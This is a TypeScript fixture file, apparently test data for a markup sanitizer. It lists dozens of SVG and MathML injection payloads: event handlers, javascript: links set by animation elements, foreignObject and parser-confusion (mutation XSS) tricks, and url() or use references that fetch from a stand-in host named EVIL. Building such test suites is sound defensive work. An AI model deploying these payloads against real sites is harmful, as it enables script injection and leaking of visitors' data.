import { pages, type Payload } from "../payload.ts";

/** Returns SVG or MathML in two forms: as a page contains it, and as a browser parses it. */
const both = (text: string): readonly [string, string] => [text, text.replace(/<(\w+)([^<>]*?)\s*\/>/g, "<$1$2></$1>")];

export const drawings: readonly Payload[] = [
  ...pages("svg", {
    "a load handler": both('<svg onload="RUN" />'),
    "an animation with a begin handler": both('<svg><animate onbegin="RUN" attributeName="x" dur="1s" /></svg>'),
    "an animated link": both(
      '<svg><a><text y="20">a</text><animate attributeName="href" values="javascript:RUN" begin="0s" dur="1s" fill="freeze" /></a></svg>',
    ),
    "an animated xlink": both(
      '<svg><a><text y="20">a</text><animate attributeName="xlink:href" to="javascript:RUN" dur="1s" fill="freeze" /></a></svg>',
    ),
    "a set element for a link": both(
      '<svg><a><text y="20">a</text><set attributeName="href" to="javascript:RUN" /></a></svg>',
    ),
    "a set element for a handler": both(
      '<svg><rect width="9" height="9"><set attributeName="onclick" to="RUN" /></rect></svg>',
    ),
    "an animation of an element elsewhere": both(
      '<svg><a id="far"><text y="20">a</text></a><animate href="#far" attributeName="href" to="javascript:RUN" dur="1s" fill="freeze" /></svg>',
    ),
    "an external drawing in use": both('<svg><use href="https://EVIL/a.svg#a" /></svg>'),
    "an external drawing in use with xlink": both(
      '<svg><use xlinkHref="https://EVIL/a.svg#a" xlink:href="https://EVIL/a.svg#a" /></svg>',
    ),
    "a data URL in use": both(
      "<svg><use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='https://EVIL/p.png' onload='RUN'/&gt;&lt;/svg&gt;#x\" /></svg>",
    ),
    picture: both('<svg><image href="https://EVIL/p.png" width="9" height="9" /></svg>'),
    "picture with xlink": both(
      '<svg><image xlinkHref="https://EVIL/p.png" xlink:href="https://EVIL/p.png" onerror="RUN" /></svg>',
    ),
    "a picture in a filter": both(
      '<svg><filter id="f"><feImage href="https://EVIL/p.png" /></filter><rect width="9" height="9" filter="url(#f)" /></svg>',
    ),
    "an external fill": both('<svg><rect width="9" height="9" fill="url(https://EVIL/a.svg#x)" /></svg>'),
    "an external filter": both('<svg><rect width="9" height="9" filter="url(https://EVIL/a.svg#x)" /></svg>'),
    "an external mask": both('<svg><rect width="9" height="9" mask="url(https://EVIL/a.svg#x)" /></svg>'),
    "an external clip path": both(
      '<svg><rect width="9" height="9" clip-path="url(https://EVIL/a.svg#x)" clipPath="url(https://EVIL/a.svg#x)" /></svg>',
    ),
    "an external marker": both(
      '<svg><path d="M0 0h9v9" marker-start="url(https://EVIL/a.svg#x)" marker-end="url(https://EVIL/a.svg#x)" /></svg>',
    ),
    "an external fill with an escape": both(
      '<svg><rect width="9" height="9" fill="u\\72l(https://EVIL/a.svg#x)" /></svg>',
    ),
    "an external cursor": both('<svg><rect width="9" height="9" cursor="url(https://EVIL/c.png), auto" /></svg>'),
    "an animated fill": both(
      '<svg><rect width="9" height="9"><animate attributeName="fill" values="url(https://EVIL/a.svg#x)" dur="1s" fill="freeze" /></rect></svg>',
    ),
    "an animated style": both(
      '<svg><rect width="9" height="9"><set attributeName="style" to="background:url(https://EVIL/p.png)" /></rect></svg>',
    ),
    foreignObject: both(
      '<svg><foreignObject width="99" height="99"><div xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="RUN" /></div></foreignObject></svg>',
    ),
    "foreignObject with a frame": both(
      '<svg><foreignObject width="99" height="99"><iframe srcdoc="<script>parent.RUN</script>" /></foreignObject></svg>',
    ),
    "foreignObject in lowercase": both(
      '<svg><foreignobject><body xmlns="http://www.w3.org/1999/xhtml" onload="RUN" /></foreignobject></svg>',
    ),
    "a style element": [
      "<svg><style>{`@import url(https://EVIL/a.css);`}</style></svg>",
      "<svg><style>@import url(https://EVIL/a.css);</style></svg>",
    ],
    "a style element with a picture": [
      "<svg><style>{`rect{fill:red;background:url(https://EVIL/p.png)} *{background-image:url(https://EVIL/q.png)}`}</style><rect /></svg>",
      "<svg><style>svg{background-image:url(https://EVIL/q.png)}</style><rect></rect></svg>",
    ],
    "title with markup": [
      '<svg><title><img src="x" onError="RUN" /></title></svg>',
      "<svg><title><img src=x onerror=RUN></title></svg>",
    ],
    "desc with markup": [
      '<svg><desc><p><img src="x" onError="RUN" /></p></desc></svg>',
      "<svg><desc><p><img src=x onerror=RUN></p></desc></svg>",
    ],
    "link with a target": both('<svg><a href="javascript:RUN" target="_top"><rect width="9" height="9" /></a></svg>'),
    "an entity in a document type declaration": [
      "<!DOCTYPE svg [<!ENTITY x 'javascript:RUN'>]>\n\n<svg><a href=\"&x;\"><text>a</text></a></svg>",
      "",
    ],
    "handler element": [
      '<svg><handler type="text/javascript">RUN</handler><listener event="click" handler="#x" /></svg>',
      "",
    ],
    discard: both('<svg><discard onbegin="RUN" begin="0s" /></svg>'),
    "an external path": both(
      '<svg><text><textPath href="https://EVIL/a.svg#p">a</textPath></text><animateMotion><mpath href="https://EVIL/a.svg#p" /></animateMotion></svg>',
    ),
    "an external gradient": both(
      '<svg><linearGradient id="g" href="https://EVIL/a.svg#g" /><rect width="9" height="9" fill="url(#g)" /></svg>',
    ),
    "an element as an icon": [
      '<Card title="a" icon={<svg onLoad="RUN"><image href="https://EVIL/p.png" /></svg>}>b</Card>',
      '<svg onload="RUN"><image href="https://EVIL/p.png"></image></svg>',
    ],
    "markup as an icon": ['<Card title="a" icon="<svg onload=RUN></svg>">b</Card>', "<svg onload=RUN></svg>"],
  }),
  ...pages("math", {
    link: [
      '<math href="javascript:RUN"><mi>a</mi></math>',
      '<math><mtext><a href="javascript:RUN">a</a></mtext></math>',
    ],
    "link with xlink": ['<math xlinkHref="javascript:RUN" xlink:href="javascript:RUN"><mi>a</mi></math>', ""],
    action: ['<math><maction actiontype="statusline#https://EVIL" xlinkHref="javascript:RUN">a</maction></math>', ""],
    "markup in an annotation": [
      '<math><annotation-xml encoding="text/html"><img src="x" onError="RUN" /></annotation-xml></math>',
      '<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>',
    ],
    "markup in a text element": [
      '<math><mtext><img src="x" onError="RUN" /></mtext></math>',
      "<math><mtext><img src=x onerror=RUN></mtext></math>",
    ],
    "markup that the parser moves": [
      "<form><math><mtext><form><mglyph><style>{`</math><img src onerror=RUN>`}</style></mglyph></form></mtext></math></form>",
      "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    ],
    "a misplaced table": [
      "<math><mtext><table><mglyph><style>{`<img src=x onerror=RUN>`}</style></mglyph></table></mtext></math>",
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
    ],
    "a glyph from the web": ['<math><mglyph src="https://EVIL/p.png" /></math>', ""],
    "a style with an image from the web": [
      '<math style={{ background: "url(https://EVIL/p.png)" }}><mi>a</mi></math>',
      '<math style="display:block;background:url(https://EVIL/p.png)"><mi>a</mi></math>',
    ],
    "a color with an image from the web": [
      '<math><mi mathbackground="url(https://EVIL/p.png)" mathcolor="expression(RUN)">a</mi></math>',
      "",
    ],
  }),
];
